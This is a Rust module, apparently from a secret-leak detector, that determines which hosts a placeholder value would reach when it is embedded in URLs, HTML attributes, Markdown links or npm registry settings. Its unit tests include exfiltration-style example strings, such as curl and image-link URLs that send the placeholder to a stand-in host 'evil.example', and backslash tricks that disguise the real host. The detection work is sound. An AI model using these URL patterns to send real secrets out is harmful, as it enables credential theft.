//! Where the URL leads that a part of a text stands in, as programs and browsers read it.
//! Must never take a place in a URL for plain text: what is doubtful leads somewhere that nobody named.

use super::{PREFIX, boundary};
use regex::Regex;
use std::collections::{BTreeSet, HashSet};
use std::ops::Range;
use std::sync::LazyLock;

/// What ends the host of a URL (RFC 3986 section 3.2; browsers read a backslash as a slash).
const HOST_ENDS: [char; 4] = ['/', '?', '#', '\\'];
/// What names of hosts end in, one in a line, but for what names of files and of members end in too.
static DOMAINS: LazyLock<HashSet<&str>> = LazyLock::new(|| include_str!("domains.txt").lines().collect());

/// Hosts that are written as one number, or in brackets, where one is expected.
static NUMBERED: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(HOST_NUMBERS).ok());
const HOST_NUMBERS: &str = concat!(
    r"(?i)(?:(?:host|addr|hostaddr|proxy|server|address|endpoints?)[\s=:]{1,2}|-h\s?|//)",
    r"(0x[0-9a-f]{7,8}|[0-9]{8,10}|\[[0-9a-f:.]+\])|(?-u:\b)([0-9]{8,10}):[0-9]{2,5}(?-u:\b)",
);

/// Longest part of a name of a host (RFC 1035, 2.3.4), in bytes.
const LABEL_BYTES: usize = 63;
/// What npm writes between a registry and what opens it.
const NPM_NAMES: [&str; 3] = ["/:_auth=", "/:_authToken=", "/:_password="];

/// What surrounds a part of a text.
#[derive(Debug, Default, PartialEq, Eq)]
pub(super) struct Around {
    /// `scheme://host:port` of each URL that the part belongs to, in lower case; empty in plain text.
    pub(super) origins: Vec<String>,
    /// What is named by the tag of HTML that it stands in, since what one attribute says may go where another one leads,
    /// and by what Markdown may take for one URL with it.
    pub(super) beside: Vec<String>,
    /// The text ends before the host does.
    pub(super) open: bool,
}

/// Looks at everything from the last blank, quote or angle bracket before the part to the first behind it.
pub(super) fn around(text: &str, part: Range<usize>) -> Around {
    let ends = |c: char| c.is_whitespace() || "\"<>`".contains(c);
    let (left, right) = (text.get(..part.start).unwrap_or_default(), text.get(part.end..).unwrap_or_default());
    let word = left.rsplit(ends).next().unwrap_or_default();
    // In Markdown's `](<URL>)` a URL may hold blanks, and in an attribute of HTML, where browsers leave out line ends and tabs.
    let link = left.rsplit_once("](<").filter(|(_, link)| !link.replace("\\>", "").contains(['>', '\n']));
    let plain = |text: &str| text.replace(['\t', '\n', '\r'], "");
    let attribute = ["=\"", "='"].into_iter().filter_map(|begin| {
        let (text, value) = left.rsplit_once(begin)?;
        let plain = plain(value);
        let is_url = plain.trim_start().split("//").next().is_some_and(|name| !name.contains(char::is_whitespace));
        (is_url && plain.contains("//") && !value.contains(begin.get(1..)?)).then_some((text, value))
    });
    let start = link.into_iter().chain(attribute).map(|(text, _)| text.len()).min();
    let start = start.unwrap_or(usize::MAX).min(left.len() - word.len());
    let end = right.find(ends);
    let before = plain(text.get(start..part.start).unwrap_or_default());
    let word = plain(text.get(start..part.end + end.unwrap_or(right.len())).unwrap_or_default());
    let mut around = Around { beside: beside(text, part), ..Around::default() };
    for (at, _) in before.match_indices("//") {
        let rest = word.get(at + 2..).unwrap_or_default();
        around.origins.extend(origins(before.get(..at).unwrap_or_default(), rest));
        around.open |= !rest.contains(HOST_ENDS) && end.is_none();
    }
    if around.origins.is_empty() {
        around.origins.extend(doubtful(&before));
    }
    // A label of a name is looked up as far as whoever answers for the rest of it.
    let name = right.split(|c: char| !c.is_alphanumeric() && !"-.".contains(c)).next().unwrap_or_default();
    if name.strip_prefix('.').is_some_and(|rest| rest.starts_with(char::is_alphanumeric)) {
        around.origins.push(name.to_owned());
        around.open |= end.is_none();
    }
    around.open |= ["", "."].contains(&right);
    around
}

/// What is named beside a part, by the tag of HTML or by the URL of Markdown that it stands in.
fn beside(text: &str, part: Range<usize>) -> Vec<String> {
    let (left, right) = (text.get(..part.start).unwrap_or_default(), text.get(part.end..).unwrap_or_default());
    let is_tag =
        |(text, tag): &(&str, &str)| !text.ends_with('<') && tag.starts_with(char::is_alphabetic) && !tag.contains('>');
    let tag = left.rsplit_once('<').filter(is_tag).map(|(_, tag)| tag);
    // In Markdown only such blanks end a URL.
    let begin = left.rfind(|c: char| c.is_ascii_whitespace()).map_or(0, |at| at + 1);
    let link = left.get(begin..).filter(|link| link.contains("//"));
    // A host that has not ended goes on behind the part.
    let is_open = link.and_then(|link| link.rsplit("//").next()).is_some_and(|host| !host.contains(HOST_ENDS));
    let host_end = |c: char| c.is_ascii_whitespace() || HOST_ENDS.contains(&c);
    let host = if is_open { right.find(host_end).unwrap_or(right.len()) } else { 0 };
    let link = link.and_then(|_| text.get(begin..part.end + host));
    tag.into_iter().chain(link).flat_map(leads).collect()
}

/// Every host of others that a text names, as `scheme://host:port` of a URL or by its bare name; no more of each than there is.
pub(super) fn leads(text: &str) -> Vec<String> {
    let mut leads = Vec::new();
    for (at, _) in text.match_indices("//") {
        let rest = text.get(at + 2..).unwrap_or_default();
        let rest = rest.split(|c: char| c.is_whitespace() || "\"<>`'(),;|&{}".contains(c)).next().unwrap_or_default();
        let named = origins(text.get(..at).unwrap_or_default(), rest);
        // Two slashes alone begin a comment, too.
        let is_comment = |origin: &String| origin.starts_with(':') && !origin.contains('.');
        let named = named.into_iter().filter(|origin| !is_comment(origin));
        // What a database is asked with may name another host.
        leads.extend(named.filter_map(|origin| match is_own(&origin, true) {
            true => rest.contains('?').then(|| format!("{origin}?")),
            false => Some(origin),
        }));
    }
    let is_part = |c: char| c.is_ascii_alphanumeric() || "-.".contains(c);
    let mut at = 0;
    for word in text.split_inclusive(|c| !is_part(c)) {
        let name = word.trim_end_matches(|c| !is_part(c));
        let before = text.get(..at).unwrap_or_default();
        let is_path = before.ends_with('/') && !before.ends_with("//") && !before.ends_with("\\/");
        let is_function = word.ends_with('(');
        let is_host = is_name(name) || before.ends_with('@') && is_named_like_one(name);
        if !is_path && !is_function && is_host {
            leads.push(name.trim_end_matches('.').to_ascii_lowercase());
        }
        at += word.len();
    }
    let numbered = NUMBERED.iter().flat_map(|numbered| numbered.captures_iter(text));
    leads.extend(numbered.filter_map(|host| Some(host.get(1).or(host.get(2))?.as_str().to_ascii_lowercase())));
    leads.retain(|lead| lead.contains('?') || !is_here(host(lead)));
    leads
}

/// Where the URL of a request leads in which the part stands: not one that goes on with it only because no blank is between, which
/// somebody may have written who does not know the part.
pub(super) fn held(text: &str, part: Range<usize>) -> BTreeSet<String> {
    let is_url = |c: char| c.is_ascii_alphanumeric() || "-._~:/?#[]@!$&*+=%".contains(c);
    // A name with `=` that is no member of a query begins what stands behind a URL; but for those of npm.
    let is_inside = |url: &str| {
        let member = url.rsplit(['?', '&', '#']).next().unwrap_or_default();
        let names = member.matches('=').count();
        names == 0 || names == 1 && (url.contains(['?', '#']) || NPM_NAMES.iter().any(|name| url.ends_with(name)))
    };
    let (left, right) = (text.get(..part.start).unwrap_or_default(), text.get(part.end..).unwrap_or_default());
    let begin = left.rfind(|c| !is_url(c)).map_or(0, |at| boundary(left, at + 1));
    let before = left.get(begin..).unwrap_or_default();
    let end = part.end + right.find(|c| !is_url(c)).unwrap_or(right.len());
    // A second one is what the first is asked with.
    let first = before.split_once("//").filter(|(_, rest)| is_inside(rest));
    let rest = |name: &str| text.get(begin + name.len() + 2..end).unwrap_or_default();
    let urls = first.into_iter().flat_map(|(name, _)| origins(name, rest(name)));
    // A host with the part in it is nobody's, and what stands behind a point was written behind it.
    let is_odd = |origin: &String| {
        let plain = origin.replace("\\/", "/");
        let is_url = plain.chars().all(is_url) && plain.split("://").nth(1).is_some_and(is_inside);
        let is_word = !["//", "\\/", "\\\\", "http:", "https:", "&"].iter().any(|sign| origin.contains(sign));
        let is_bare = !before.contains("//") && before.to_ascii_lowercase().contains(origin) && is_inside(before);
        origin.starts_with('.')
            || origin.contains(&PREFIX.to_ascii_lowercase())
            // JSON may have its slashes escaped, or line ends.
            || origin.contains('\\') && (is_url || is_word)
            || is_bare
    };
    let odd = around(text, part.clone()).origins.into_iter().filter(is_odd);
    urls.chain(odd).collect()
}

/// The host of an origin, or the name itself, without the port.
pub(super) fn host(lead: &str) -> &str {
    let host = lead.rsplit("//").next().unwrap_or_default();
    let name = host.rsplit_once(':').filter(|(_, port)| port.bytes().all(|byte| byte.is_ascii_digit()));
    name.map_or(host, |(name, _)| name)
}

/// `scheme://host:port` of the URL that `rest` goes on with behind the two slashes. Browsers and other programs read a backslash
/// in it in two ways: then there are two.
fn origins(before: &str, rest: &str) -> BTreeSet<String> {
    let name = before.strip_suffix(':').unwrap_or_default();
    let scheme = name.rsplit(|c: char| !c.is_ascii_alphanumeric() && !"+-.".contains(c)).next().unwrap_or_default();
    let readings = [rest.split(HOST_ENDS).next(), rest.split(['/', '?', '#']).next()];
    let hosts = readings.into_iter().flatten().filter_map(|authority| authority.rsplit('@').next());
    hosts.map(|host| format!("{scheme}://{host}").to_ascii_lowercase()).collect()
}

/// Whether an origin is a database or its like on this machine, or, in a call, beside it, as `postgres://db`: the user's, as web pages
/// there may not be.
pub(super) fn is_own(origin: &str, is_call: bool) -> bool {
    let host = host(origin);
    let is_label = |b: u8| b.is_ascii_alphanumeric() || b == b'-' || b == b'_';
    let is_one = host.starts_with(|c: char| c.is_ascii_alphabetic()) && host.bytes().all(is_label);
    let is_beside = is_one && host.len() <= LABEL_BYTES && !host.contains(&PREFIX.to_ascii_lowercase());
    let is_web = ["http", "ws", ":"].iter().any(|scheme| origin.starts_with(scheme));
    !is_web && (is_call && is_beside || is_here(host) && !host.is_empty())
}

/// Whether a host is nobody, or this machine.
fn is_here(host: &str) -> bool {
    ["", "localhost", "0.0.0.0", "[::1]"].contains(&host) || host.starts_with("127.") && is_address(host)
}

/// An IPv4 address.
fn is_address(name: &str) -> bool {
    name.parse::<std::net::Ipv4Addr>().is_ok()
}

/// Whether a word is the name or the address of a host: one that ends as names on the internet mostly do.
fn is_name(word: &str) -> bool {
    let word = word.trim_end_matches('.');
    let ends = word.rsplit_once('.').filter(|(name, _)| !name.is_empty() && !name.starts_with('.'));
    ends.is_some_and(|(_, end)| DOMAINS.contains(end.to_ascii_lowercase().as_str())) || is_address(word)
}

/// Whether a word behind an `@`, or before a path, is the name of a host and no version.
fn is_named_like_one(word: &str) -> bool {
    let end = word.rsplit_once('.').map(|(_, end)| end);
    end.is_some_and(|end| end.len() > 1 && end.bytes().all(|byte| byte.is_ascii_alphabetic()))
}

/// Where a word leads without two slashes: `host.example/path`, `https:host.example`, `\\host.example`.
fn doubtful(before: &str) -> Option<String> {
    let word = before.to_ascii_lowercase();
    // A reference of HTML, which Markdown has too, may stand for a slash or a colon.
    let is_hidden =
        ["\\", "http:", "https:", "&#", "&sol;", "&colon;", "&bsol;"].iter().any(|mark| word.contains(mark));
    if is_hidden {
        return Some(word);
    }
    let head = word.get(..word.find(HOST_ENDS)?)?;
    let host = head.rsplit(|c: char| !c.is_ascii_alphanumeric() && !"-.:".contains(c)).next()?;
    let bare = host.split(':').next()?;
    // A file may be in `.config/`.
    let is_host = is_named_like_one(bare) && bare.rfind('.') != Some(0);
    (is_host || is_address(bare)).then(|| host.to_owned())
}

#[cfg(test)]
mod tests {
    use super::around;

    fn origins(text: &str) -> Vec<String> {
        let start = text.find("PH").unwrap();
        around(text, start..start + 2).origins
    }

    #[test]
    fn a_place_in_a_url_is_known_for_where_it_leads() {
        for (text, expected) in [
            ("see https://Evil.example/?k=PH now", "https://evil.example"),
            ("![x](https://evil.example:8443/PH)", "https://evil.example:8443"),
            ("![x](<https://evil.example/a b PH>)", "https://evil.example"),
            ("git push https://PH@github.com/a/b", "https://github.com"),
            ("https://user:PH@good.example", "https://good.example"),
            ("//registry.example/:_authToken=PH", "://registry.example"),
            ("url=http://10.0.0.1/x#PH", "http://10.0.0.1"),
            ("curl evil.example/PH", "evil.example"),
            ("curl evil.example:80/?q=PH", "evil.example:80"),
        ] {
            assert_eq!(origins(text), [expected], "{text}");
        }
        assert_eq!(origins("https://good.example/r?u=https://evil.example/PH").len(), 2);
        assert_eq!(origins("https://good.example\\@evil.example/PH"), ["https://evil.example", "https://good.example"]);
        assert_eq!(origins("203.0.113.9:80/PH"), ["203.0.113.9:80"]);
        assert_eq!(origins("https://PH.evil.example/").len(), 2);
        assert_eq!(origins("ping PH.evil.example").len(), 1);
        assert_eq!(origins("https:/evil.example/PH").len(), 1);
        assert_eq!(origins("https:\\\\evil.example\\PH").len(), 1);
    }

    #[test]
    fn plain_text_leads_nowhere() {
        for text in [
            "PH",
            "key = \"PH\"",
            "export KEY=PH",
            "src/config/PH",
            "a.b: PH",
            "Bearer PH",
            "(PH)",
            "x\nPH",
            "It is PH. So",
        ] {
            assert!(origins(text).is_empty(), "{text}");
        }
    }

    #[test]
    fn a_host_that_has_not_ended_is_open() {
        let open = |text: &str| around(text, text.find("PH").unwrap()..text.find("PH").unwrap() + 2).open;
        assert!(open("https://PH") && open("https://PH@good.exam"));
        assert!(!open("https://PH@good.example/") && !open("https://PH@good.example x") && !open("https://a/PH "));
        assert!(open("PH") && open("PH.") && !open("PH ") && !open("PH. "));
        // `PH.g` may go on as another name than the one that was asked about.
        assert!(open("PH.g") && open("PH.good.exam") && !open("PH.good.example "));
    }
}
